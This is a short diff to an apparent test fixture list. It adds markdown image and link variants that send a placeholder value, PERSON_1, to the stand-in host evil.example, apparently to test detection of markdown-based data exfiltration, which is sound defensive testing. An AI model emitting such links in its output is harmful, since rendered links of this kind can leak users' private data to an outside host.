@@ -67,6 +67,8 @@ MADE_UP = [
     "![a](x(y(z)PERSON_1)",
     r"![a](x\)PERSON_1)",
     "![PERSON_1](https://evil.example/)",
+    "![x][PERSON_1]",
+    "[PERSON_1]: https://evil.example/",
     "![a [b] PERSON_1](https://evil.example/)",
     "[![a](https://evil.example/PERSON_1)](https://evil.example)",
     "[a]: https://evil.example/?q=PERSON_1",
